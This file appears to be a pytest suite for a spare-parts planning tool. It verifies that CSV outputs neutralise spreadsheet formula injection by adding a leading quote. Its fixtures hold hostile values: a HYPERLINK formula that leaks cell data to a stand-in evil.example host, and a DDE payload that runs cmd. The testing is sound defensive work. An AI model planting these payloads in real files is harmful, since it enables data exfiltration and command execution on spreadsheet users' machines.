"""Spreadsheet formula injection (OWASP CSV injection): a part or site id such as
``=HYPERLINK(...)`` reaches every CSV output of plan, simulate, frontier and backtest as
text, with a leading quote, never as a formula; numbers are untouched."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from reliability_helpers import TINY, copy_scenario, invoke

from spareplan.reports.atomic import write_csv
from spareplan.reports.safe_text import FORMULA_STARTS, neutralize, neutralize_frame

PART = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SITE = "@SUM(1+1)*cmd|' /C calc'!A0"
LOCATION = "+F1"


def _quoted(text: str) -> str:
    """``text`` as a quoted CSV cell."""
    return '"' + text.replace('"', '""') + '"'


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _assert_safe(folder: Path) -> None:
    files = sorted(folder.rglob("*.csv"))
    assert files
    for path in files:
        for cell in _cells(path):
            if cell.startswith(FORMULA_STARTS):
                float(cell)  # only a number may start with - or +


def _hostile_scenario(tmp_path: Path) -> Path:
    folder = copy_scenario(TINY, tmp_path / "scenario")
    for name in ("parts.csv", "failure_rates.csv", "current_stock.csv"):
        path = folder / name
        path.write_text(path.read_text().replace("P-PUMP", _quoted(PART)))
    for name in ("sites.csv", "reach.csv", "installed_base.csv"):
        path = folder / name
        path.write_text(path.read_text().replace("S1,", f'"{SITE}",'))
    for name in ("locations.csv", "reach.csv", "sites.csv", "current_stock.csv"):
        path = folder / name
        path.write_text(path.read_text().replace(",F1,", f",{LOCATION},")
                        .replace("\nF1,", f"\n{LOCATION},"))
    return folder


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _hostile_scenario(tmp_path_factory.mktemp("hostile"))


def test_the_hostile_ids_are_valid_input(hostile: Path) -> None:
    from spareplan.scenario import load_scenario

    scenario = load_scenario(hostile)
    assert PART in set(scenario.parts["part"]) and SITE in set(scenario.sites["site"])
    assert LOCATION in set(scenario.locations["location"])


def test_plan_simulate_and_frontier_outputs_hold_no_formula(hostile: Path,
                                                            tmp_path: Path) -> None:
    code, output = invoke(["plan", str(hostile), "--out", str(tmp_path / "plan"),
                           "--replications", "2", "--years", "1"])
    assert code in (0, 1), output
    recommendations = pd.read_csv(tmp_path / "plan" / "recommendations.csv")
    assert "'" + PART in set(recommendations["part"])
    assert "'" + LOCATION in set(recommendations["location"])
    _assert_safe(tmp_path / "plan")
    code, output = invoke(["simulate", str(hostile), "--out", str(tmp_path / "sim"),
                           "--replications", "2", "--years", "1"])
    assert code in (0, 1), output
    _assert_safe(tmp_path / "sim")
    assert any(SITE in cell for cell in _cells(tmp_path / "sim" / "verification.csv"))
    code, output = invoke(["frontier", str(hostile), "--out", str(tmp_path / "frontier"),
                           "--points", "2"])
    assert code in (0, 1), output
    _assert_safe(tmp_path / "frontier")


def test_backtest_output_holds_no_formula(tmp_path: Path) -> None:
    rows = ["period,part,site,quantity"]
    rows += [f"{2020 + y}-{m:02d},{_quoted(PART)},{LOCATION},{(m + y) % 3}"
             for y in range(2) for m in range(1, 13)]
    (tmp_path / "history.csv").write_text("\n".join(rows) + "\n")
    code, output = invoke(["backtest", str(tmp_path / "history.csv"), "--out",
                           str(tmp_path / "out"), "--methods", "poisson"])
    assert code == 0, output
    _assert_safe(tmp_path / "out")


@pytest.mark.parametrize("text", ["=1+1", "+1", "-x", "@A1", "\tx", "\rx", "=", "-"])
def test_every_formula_start_is_neutralized(text: str) -> None:
    assert neutralize(text) == "'" + text


@pytest.mark.parametrize("text", ["P-1", "1=1", " =1", "'=x", "", "é=", "x@y"])
def test_other_text_is_unchanged(text: str) -> None:
    assert neutralize(text) == text


def test_frames_of_every_text_dtype_are_neutralized_and_numbers_kept(tmp_path: Path) -> None:
    frame = pd.DataFrame({
        "object": ["=a", "b", None],
        "string": pd.array(["+c", None, "d"], dtype="string"),
        "category": pd.Categorical(["@e", "f", "@e"]), "number": [-1.5, 2.0, -3.0],
        "mixed": ["-7", 8, None]}, index=[4, 4, 9])
    before = frame.copy()
    safe = neutralize_frame(frame)
    pd.testing.assert_frame_equal(frame, before)  # the input is not modified
    assert list(safe["object"])[:2] == ["'=a", "b"] and pd.isna(safe["object"].iloc[2])
    assert list(safe["string"].astype(object)) == ["'+c", pd.NA, "d"]
    assert list(safe["category"]) == ["'@e", "f", "'@e"]
    assert list(safe["number"]) == [-1.5, 2.0, -3.0]
    assert list(safe["mixed"]) == ["'-7", 8, None]
    write_csv(tmp_path / "x.csv", frame)
    assert _cells(tmp_path / "x.csv")[:5] == ["object", "string", "category", "number", "mixed"]
    assert "'=a" in _cells(tmp_path / "x.csv")
